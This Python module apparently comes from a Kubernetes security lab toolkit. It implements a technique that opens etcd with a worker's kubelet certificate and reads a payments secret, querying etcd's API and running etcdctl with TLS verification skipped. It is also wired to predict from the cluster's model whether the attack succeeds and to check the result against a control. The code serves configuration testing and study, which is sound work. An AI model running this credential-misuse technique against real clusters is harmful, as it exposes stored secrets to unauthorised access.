"""Open etcd with a certificate that was made for something else: a kubelet's.

Where one authority signs for everything, TLS tells etcd only that somebody has a certificate.
What then stands between a worker and the cluster's secrets is etcd's users, if it has any.
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import TYPE_CHECKING

from labkit.cluster import Environment
from labkit.errors import ProbeError, ProbeTimeout
from labkit.model import Foothold, Model
from labkit.model.rights import trusted_by
from labkit.techniques._lib.api.component_credential import WORKER, credential_options
from labkit.techniques._lib.machines.reach import inside, request, run_from
from labkit.techniques._lib.stores.etcd import (
    API,
    NO_USER,
    as_apiserver,
    client_channel,
    encode,
    stores_plaintext,
)
from labkit.techniques._lib.stores.secret import true_secret
from labkit.techniques._lib.technique import (
    COPIED_CREDENTIAL,
    ROOT_ON_WORKER,
    SECRETS,
    Prediction,
    Technique,
)
from labkit.techniques._lib.verdict import Setting, Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

CHANNEL = "kube-apiserver@* -> etcd@*"
WANTED = ("payments", "card-processor", "api-key")
KEY = "/registry/secrets/payments/card-processor"
#: What etcd says to a name that is none of its users', or to none at all.
REFUSALS = ("permission denied", NO_USER)


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Say what the model says: whom etcd trusts, whether it has users, and what it keeps."""
    channel = model.open_channels(CHANNEL)[0]
    credential = model.environment.credential("kubelet", WORKER)
    trusted = model.environment.component(channel.server).setting("trusted-ca-file")
    asked = channel.encryption.value != "none" and channel.client_authentication.value != "none"
    if asked and (
        credential is None
        or credential.signed_by not in trusted_by(model.environment, trusted.value)
    ):
        return Prediction(False, (f"trusts {trusted.value} only: {trusted.source}",))
    if channel.authorization.value != "allow-all":
        return Prediction(False, (str(channel.authorization),))
    return stores_plaintext(model)


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Knock with the kubelet's certificate, and ask for a secret where the door opens."""
    secret = true_secret(lab, *WANTED)
    channel = client_channel(lab)
    server = channel.server.partition("@")[2]
    endpoint = f"{channel.protocol}://{server}:{channel.port}"
    shown = f"with the certificate of {WORKER}'s kubelet"
    if channel.protocol == "http":
        shown = "over plain HTTP, where nobody is asked for a certificate"
    evidence = [f"asked {channel.server} for {KEY}, {shown}"]
    with credential_options(lab, foothold, "kubelet") as options:
        # curl tells what TLS says; only etcd's own client is known by its certificate's name
        body = f'{{"key": "{encode(KEY.encode())}"}}'.encode()
        tls_answer = request(
            lab, f"{endpoint}{API}/range", foothold=foothold, body=body, options=options
        )
        reason, value = tls_answer.refusal, b""
        if not reason.startswith("TLS alert"):
            reason, value = _get(lab, foothold, endpoint, options)
    if secret.found_in(value):
        evidence.append(f"read: {secret.proof}")
        return Verdict(TECHNIQUE.name, lab.mode, foothold, True, "etcd gives it", tuple(evidence))
    if not reason:
        raise ProbeError(f"{channel.server} answered, but not with {secret}")
    if as_apiserver(lab, "get", KEY, "--keys-only").split() != [KEY]:
        raise ProbeError(f"the apiserver does not get {KEY} from etcd either")
    control = "with the apiserver's certificate, the same member gives the key"
    return Verdict(TECHNIQUE.name, lab.mode, foothold, False, reason, tuple(evidence), control)


def _get(lab: Lab, foothold: Foothold, endpoint: str, options: Sequence[str]) -> tuple[str, bytes]:
    """Ask for the key with etcdctl; return why there is none, or the value."""
    inside(lab, endpoint.partition("://")[2].rpartition(":")[0])
    argv = ["etcdctl", "--command-timeout=4s", f"--endpoints={endpoint}", "get", KEY]
    if endpoint.startswith("https") and options:
        argv += ["--insecure-skip-tls-verify", *options]
    output = run_from(lab, foothold, [*argv, "--print-value-only"])
    said = output.error.strip().splitlines()[-2:]
    if "context deadline exceeded" in output.error:
        raise ProbeTimeout(f"{endpoint} did not answer", evidence=said)
    if output.exit_code:
        reason = next((word for word in REFUSALS if word in output.error), "")
        if not reason:
            raise ProbeError("etcd's answer says nothing", evidence=said)
        return f"etcd: {reason}", b""
    if output.stdout.startswith(b"k8s:enc:"):
        return "the value is a ciphertext", b""
    return "", output.stdout


def _settings(env: Environment) -> list[Setting]:
    """Return whom etcd trusts."""
    found = [c.setting("trusted-ca-file") for c in env.components if c.kind == "etcd"]
    return [("whom etcd trusts", item.value or "anybody", str(item.source)) for item in found[:1]]


TECHNIQUE = Technique(
    name="etcd-any-certificate",
    title="Open etcd with a kubelet's certificate",
    footholds=(ROOT_ON_WORKER, COPIED_CREDENTIAL),
    grants=(SECRETS,),
    about=CHANNEL,
    properties=("client_authentication", "authorization"),
    attack=("T1552.004", "T1552.007"),
    stride=("spoofing", "information disclosure"),
    cwe=("CWE-295", "CWE-653"),
    sources=(
        "Securing communications in Kubernetes (2016), etcd",
        "https://kubernetes.io/docs/setup/best-practices/certificates/",
        "https://attack.mitre.org/techniques/T1552/004/",
    ),
    predict=predict,
    execute=execute,
    settings=_settings,
)
